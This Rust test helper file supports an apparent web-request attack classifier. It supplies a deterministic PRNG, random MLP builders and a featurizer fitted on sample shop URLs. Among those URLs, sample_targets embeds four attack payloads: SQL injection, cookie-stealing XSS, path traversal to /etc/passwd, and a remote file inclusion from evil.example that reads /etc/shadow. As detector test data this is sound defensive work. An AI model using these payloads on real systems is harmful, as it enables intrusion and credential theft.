//! Shared helpers of the bundle tests: a deterministic PRNG, random networks and inputs, a small
//! fitted featurizer.
#![allow(dead_code)]

use bundle::{Dense, Mlp};
use featurizer::{Featurizer, FeaturizerConfig, RequestParts};

/// SplitMix64 (Steele, Lea, Flood 2014): deterministic, dependency-free test randomness.
pub struct SplitMix(pub u64);

impl SplitMix {
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    /// Uniform in [0, 1).
    pub fn unit(&mut self) -> f32 {
        (self.next_u64() >> 40) as f32 / (1u64 << 24) as f32
    }
    /// Uniform in [-a, a).
    pub fn symmetric(&mut self, a: f32) -> f32 {
        (self.unit() * 2.0 - 1.0) * a
    }
    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n as u64) as usize
    }
}

/// A random MLP with the given widths; weights uniform in ±`gain`/√in (torch's Linear init scaled
/// by `gain`, so that outputs spread over the whole (0, 1) range).
pub fn random_mlp(widths: &[usize], gain: f32, rng: &mut SplitMix) -> Mlp {
    let layers = widths
        .windows(2)
        .map(|w| {
            let (in_dim, out_dim) = (w[0], w[1]);
            let bound = gain / (in_dim as f32).sqrt();
            Dense {
                in_dim,
                out_dim,
                weight: (0..in_dim * out_dim)
                    .map(|_| rng.symmetric(bound))
                    .collect(),
                bias: (0..out_dim).map(|_| rng.symmetric(bound)).collect(),
            }
        })
        .collect();
    Mlp { layers }
}

/// `n` inputs of width `dim`: half sparse and l1-normalized like the featurizer's output (1 to 12
/// non-zeros, some empty), half dense in ±2 (to exercise large logits of both signs).
pub fn random_inputs(n: usize, dim: usize, rng: &mut SplitMix) -> Vec<Vec<f32>> {
    (0..n)
        .map(|i| {
            let mut row = vec![0.0f32; dim];
            if i % 2 == 0 {
                let nnz = if i % 50 == 0 { 0 } else { 1 + rng.below(12) };
                for _ in 0..nnz {
                    row[rng.below(dim)] += rng.unit() + 0.01;
                }
                let sum: f32 = row.iter().sum();
                if sum > 0.0 {
                    row.iter_mut().for_each(|v| *v /= sum);
                }
            } else {
                row.iter_mut().for_each(|v| *v = rng.symmetric(2.0));
            }
            row
        })
        .collect()
}

/// Request targets for fitting a featurizer: CSIC-like benign queries and a few attacks.
pub fn sample_targets() -> Vec<String> {
    let mut targets = Vec::new();
    for i in 0..40 {
        targets.push(format!("/tienda1/publico/anadir.jsp?id={i}&nombre=Vino+Rioja&precio={}&cantidad={}&B1=A%F1adir+al+carrito", 85 + i, i % 7));
        targets.push(format!("/tienda1/publico/autenticar.jsp?modo=entrar&login=user{i}&pwd=secret{i}&remember=on&B1=Entrar"));
        targets.push(format!(
            "/tienda1/publico/buscar.jsp?B1=Buscar&texto=item{i}"
        ));
    }
    targets.push("/tienda1/publico/anadir.jsp?id=2%27+OR+%271%27%3D%271&nombre=x".into());
    targets.push(
        "/tienda1/publico/buscar.jsp?texto=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E"
            .into(),
    );
    targets.push("/tienda1/publico/../../etc/passwd".into());
    targets.push("/index.php?page=http://evil.example/shell.txt&cmd=cat+/etc/shadow".into());
    targets
}

/// A featurizer fitted on [`sample_targets`] with `top_k` tokens at most.
pub fn sample_featurizer(top_k: usize) -> Featurizer {
    let targets = sample_targets();
    let config = FeaturizerConfig {
        top_k,
        ..FeaturizerConfig::default()
    };
    Featurizer::fit(config, targets.iter().map(|t| RequestParts::get(t)))
        .expect("fit the sample featurizer")
}
